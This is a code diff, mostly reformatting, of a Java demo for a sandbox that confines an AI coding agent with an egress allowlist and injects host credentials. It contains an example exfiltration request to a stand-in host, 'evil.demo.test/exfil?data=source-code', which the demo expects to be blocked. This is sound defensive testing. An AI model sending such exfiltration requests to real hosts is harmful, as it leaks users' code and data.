@@ -78,56 +78,100 @@ public final class BottleDemo {
         Manifest manifest = Manifest.builder()
                 .bottle(BottleDefinition.builder("demo")
                         .route(EgressRoute.to("www.demo.test"))
-                        .route(EgressRoute.to("api.demo.test").withPaths("/v1/").withAuth(RouteAuth.bearer("DEMO_TOKEN")))
+                        .route(EgressRoute.to("api.demo.test")
+                                .withPaths("/v1/")
+                                .withAuth(RouteAuth.bearer("DEMO_TOKEN")))
                         .build())
                 .agent(AgentDefinition.builder("demo").bottle("demo").build())
                 .build();
         Map<String, String> env = new HashMap<>(System.getenv());
         env.put("DEMO_TOKEN", token);
-        BottleSpec spec = BottleSpec.builder("demo").manifest(manifest).home(home).userCwd(home).backend("docker")
+        BottleSpec spec = BottleSpec.builder("demo")
+                .manifest(manifest)
+                .home(home)
+                .userCwd(home)
+                .backend("docker")
                 .hostEnvironment(env)
                 .setting("CLAUDE_BOTTLE_IMAGE", image)
-                .setting("CLAUDE_BOTTLE_EGRESS_EXTRA_CA", certs.resolve("demo-ca.pem").toString())
+                .setting(
+                        "CLAUDE_BOTTLE_EGRESS_EXTRA_CA",
+                        certs.resolve("demo-ca.pem").toString())
                 .listener(progressLines())
                 .build();
-        RunningBottle bottle = phase("launch the bottle (network, bundle, agent)", () -> Bottles.prepare(spec).launch());
+        RunningBottle bottle = phase(
+                "launch the bottle (network, bundle, agent)",
+                () -> Bottles.prepare(spec).launch());
         String id = bottle.identity();
         String upstream = "bottles-demo-upstream-" + id;
         try {
             JsonNode plan = new ObjectMapper().readTree(bottle.plan().toJson());
             say("bottle " + id + ": agent on " + plan.get("internal_network").asText() + " (internal, no route out),"
-                    + " bundle " + plan.get("bundle").asText() + " (" + plan.get("daemons").asText() + ")");
+                    + " bundle " + plan.get("bundle").asText() + " ("
+                    + plan.get("daemons").asText() + ")");
             phase("start the demo upstream (www/api/evil.demo.test)", () -> {
-                docker("run", "-d", "--name", upstream, "--label", "dev.bottles.identity=" + id, "--label",
-                        "dev.bottles.backend=demo", "--label", "dev.bottles.role=demo-upstream",
-                        "--network", plan.get("egress_network").asText(), "--network-alias", "www.demo.test",
-                        "--network-alias", "api.demo.test", "--network-alias", "evil.demo.test",
-                        "-v", certs + ":/certs:ro", "--entrypoint", "/opt/java/bin/java", image, "-jar", TOOL, "serve");
+                docker(
+                        "run",
+                        "-d",
+                        "--name",
+                        upstream,
+                        "--label",
+                        "dev.bottles.identity=" + id,
+                        "--label",
+                        "dev.bottles.backend=demo",
+                        "--label",
+                        "dev.bottles.role=demo-upstream",
+                        "--network",
+                        plan.get("egress_network").asText(),
+                        "--network-alias",
+                        "www.demo.test",
+                        "--network-alias",
+                        "api.demo.test",
+                        "--network-alias",
+                        "evil.demo.test",
+                        "-v",
+                        certs + ":/certs:ro",
+                        "--entrypoint",
+                        "/opt/java/bin/java",
+                        image,
+                        "-jar",
+                        TOOL,
+                        "serve");
                 waitFor(() -> docker("logs", upstream).contains("demo upstream ready"), "the upstream to start");
                 return null;
             });
 
-            String allowed = phase("allowed: the agent fetches http://www.demo.test/hello",
+            String allowed = phase(
+                    "allowed: the agent fetches http://www.demo.test/hello",
                     () -> fetch(bottle, "http://www.demo.test/hello"));
             say("  agent got: " + allowed);
             check(allowed.startsWith("200 hello from the demo upstream"), "the allowed host answered");
 
-            String blocked = phase("blocked: the agent tries http://evil.demo.test/exfil",
+            String blocked = phase(
+                    "blocked: the agent tries http://evil.demo.test/exfil",
                     () -> fetch(bottle, "http://evil.demo.test/exfil?data=source-code"));
             say("  agent got: " + blocked);
-            check(blocked.startsWith("403 blocked: host evil.demo.test is not on this bottle's allowlist"),
+            check(
+                    blocked.startsWith("403 blocked: host evil.demo.test is not on this bottle's allowlist"),
                     "the blocked host was refused with its reason");
 
-            String inside = bottle.exec("sh", "-c", "echo \"${DEMO_TOKEN:-(unset)}\"").stdout().strip();
-            String injected = phase("credential: the agent calls https://api.demo.test/v1/whoami with 'Bearer fake'",
+            String inside = bottle.exec("sh", "-c", "echo \"${DEMO_TOKEN:-(unset)}\"")
+                    .stdout()
+                    .strip();
+            String injected = phase(
+                    "credential: the agent calls https://api.demo.test/v1/whoami with 'Bearer fake'",
                     () -> fetch(bottle, "https://api.demo.test/v1/whoami", "Authorization=Bearer fake"));
             say("  agent got: " + injected);
             say("  DEMO_TOKEN inside the bottle: " + inside);
             String want = DemoTool.fingerprint("Bearer " + token);
-            String seen = docker("logs", upstream).lines().filter(l -> l.contains("/v1/whoami")).findFirst().orElse("");
+            String seen = docker("logs", upstream)
+                    .lines()
+                    .filter(l -> l.contains("/v1/whoami"))
+                    .findFirst()
+                    .orElse("");
             say("  upstream saw: " + seen);
             say("  sha256 of 'Bearer $DEMO_TOKEN' on the host: " + want);
-            check(injected.startsWith("200 ") && seen.endsWith("auth=" + want),
+            check(
+                    injected.startsWith("200 ") && seen.endsWith("auth=" + want),
                     "the upstream received the host's token, not the agent's");
             check(inside.equals("(unset)"), "the agent holds no token");
             String outside = fetch(bottle, "https://api.demo.test/admin");
@@ -140,8 +184,12 @@ public final class BottleDemo {
                 for (String line : logs.split("\n")) {
                     if (line.contains("\"event\":\"decision\"")) {
                         JsonNode d = json.readTree(line);
-                        say(String.format("  %-8s %-7s %-16s %-22s %s", d.get("verdict").asText(),
-                                d.get("method").asText(), d.get("host").asText(), d.path("path").asText(""),
+                        say(String.format(
+                                "  %-8s %-7s %-16s %-22s %s",
+                                d.get("verdict").asText(),
+                                d.get("method").asText(),
+                                d.get("host").asText(),
+                                d.path("path").asText(""),
                                 shorten(d.path("mode").asText(d.get("reason").asText()))));
                     }
                 }
@@ -150,8 +198,10 @@ public final class BottleDemo {
         } finally {
             String left = tearDown("teardown", upstream, bottle);
             check(left.isBlank(), "nothing is left behind");
-            say(left.isBlank() ? "nothing left behind: no container or network carries dev.bottles.identity=" + id
-                    : "left behind: " + left);
+            say(
+                    left.isBlank()
+                            ? "nothing left behind: no container or network carries dev.bottles.identity=" + id
+                            : "left behind: " + left);
             SecureFiles.deleteRecursively(home);
         }
         claudeCode(certs, token);
@@ -173,12 +223,18 @@ public final class BottleDemo {
         Path home = Files.createTempDirectory("bottles-demo-claude-");
         Map<String, String> env = new HashMap<>(System.getenv());
         env.put(Manifest.CLAUDE_TOKEN_ENV, token);
-        BottleSpec spec = BottleSpec.builder(Manifest.CLAUDE).home(home).userCwd(home).backend("docker")
+        BottleSpec spec = BottleSpec.builder(Manifest.CLAUDE)
+                .home(home)
+                .userCwd(home)
+                .backend("docker")
                 .hostEnvironment(env)
-                .setting("CLAUDE_BOTTLE_EGRESS_EXTRA_CA", certs.resolve("demo-ca.pem").toString())
+                .setting(
+                        "CLAUDE_BOTTLE_EGRESS_EXTRA_CA",
+                        certs.resolve("demo-ca.pem").toString())
                 .listener(progressLines())
                 .build();
-        RunningBottle bottle = phase("launch a Claude Code bottle (the built-in 'claude' agent, the SDK's image)",
+        RunningBottle bottle = phase(
+                "launch a Claude Code bottle (the built-in 'claude' agent, the SDK's image)",
                 () -> Bottles.prepare(spec).launch());
         String id = bottle.identity();
         String api = "bottles-demo-anthropic-" + id;
@@ -187,27 +243,58 @@ public final class BottleDemo {
             say("  image " + plan.get("base_image").asText() + " with Claude Code "
                     + plan.path("claude_code_version").asText("?"));
             phase("start a fake Anthropic API as api.anthropic.com (nothing reaches the internet)", () -> {
-                docker("run", "-d", "--name", api, "--label", "dev.bottles.identity=" + id, "--label",
-                        "dev.bottles.backend=demo", "--label", "dev.bottles.role=demo-upstream",
-                        "--network", plan.get("egress_network").asText(), "--network-alias", "api.anthropic.com",
-                        "-v", certs + ":/certs:ro", "--entrypoint", "/opt/java/bin/java", image, "-cp", FAKE_API,
-                        "dev.bottles.testkit.FakeAnthropicApi", "--tls", "/certs/demo.p12", "--password", "demo-store",
-                        "--text", "Hello from Claude Code in a bottle.");
+                docker(
+                        "run",
+                        "-d",
+                        "--name",
+                        api,
+                        "--label",
+                        "dev.bottles.identity=" + id,
+                        "--label",
+                        "dev.bottles.backend=demo",
+                        "--label",
+                        "dev.bottles.role=demo-upstream",
+                        "--network",
+                        plan.get("egress_network").asText(),
+                        "--network-alias",
+                        "api.anthropic.com",
+                        "-v",
+                        certs + ":/certs:ro",
+                        "--entrypoint",
+                        "/opt/java/bin/java",
+                        image,
+                        "-cp",
+                        FAKE_API,
+                        "dev.bottles.testkit.FakeAnthropicApi",
+                        "--tls",
+                        "/certs/demo.p12",
+                        "--password",
+                        "demo-store",
+                        "--text",
+                        "Hello from Claude Code in a bottle.");
                 waitFor(() -> docker("logs", api).contains("fake anthropic api ready"), "the fake API to start");
                 return null;
             });
-            ClaudeEvent.Result r = phase("Claude Code answers a prompt (headless, stream-json)",
-                    () -> ClaudeCode.in(bottle).run(ClaudeTask.of(
-                            "Say hello from the bottle.").withTimeout(Duration.ofMinutes(3)),
-                            e -> say("  event: " + shorten(e.toString()))));
+            ClaudeEvent.Result r = phase(
+                    "Claude Code answers a prompt (headless, stream-json)",
+                    () -> ClaudeCode.in(bottle)
+                            .run(
+                                    ClaudeTask.of("Say hello from the bottle.").withTimeout(Duration.ofMinutes(3)),
+                                    e -> say("  event: " + shorten(e.toString()))));
             say("  Claude Code said: " + r.text());
             check(!r.isError() && r.text().equals("Hello from Claude Code in a bottle."), "real Claude Code answered");
             String want = DemoTool.fingerprint("Bearer " + token);
-            List<String> seen = docker("logs", api).lines().filter(l -> l.startsWith("seen ")).toList();
+            List<String> seen = docker("logs", api)
+                    .lines()
+                    .filter(l -> l.startsWith("seen "))
+                    .toList();
             seen.forEach(l -> say("  fake API " + l));
-            check(seen.stream().anyMatch(l -> l.contains("/v1/messages") && l.contains("cred=" + want)),
+            check(
+                    seen.stream().anyMatch(l -> l.contains("/v1/messages") && l.contains("cred=" + want)),
                     "the fake API received the host's token, injected by egress");
-            String inside = bottle.exec("/bin/sh", "-c", "echo \"$CLAUDE_CODE_OAUTH_TOKEN\"").stdout().strip();
+            String inside = bottle.exec("/bin/sh", "-c", "echo \"$CLAUDE_CODE_OAUTH_TOKEN\"")
+                    .stdout()
+                    .strip();
             say("  CLAUDE_CODE_OAUTH_TOKEN inside the bottle: " + inside);
             check(inside.equals("egress-placeholder") && !inside.contains(token), "the agent holds only a placeholder");
         } finally {
@@ -233,7 +320,8 @@ public final class BottleDemo {
         return new BottleListener() {
             @Override
             public void onEvent(BottleEvent event) {
-                if (event.phase() == Phase.LAUNCH && !event.step().equals("launch")
+                if (event.phase() == Phase.LAUNCH
+                        && !event.step().equals("launch")
                         && event.duration().toMillis() >= 300) {
                     say("  step " + event.step() + ": " + event.duration().toMillis() + " ms");
                 }
@@ -256,8 +344,8 @@ public final class BottleDemo {
     }
 
     private static String fetch(RunningBottle b, String... args) {
-        List<String> argv = new ArrayList<>(List.of("java", "-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC", "-jar", TOOL,
-                "fetch"));
+        List<String> argv =
+                new ArrayList<>(List.of("java", "-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC", "-jar", TOOL, "fetch"));
         argv.addAll(List.of(args));
         ExecResult r = b.exec(argv);
         return (r.stdout() + r.stderr()).strip();
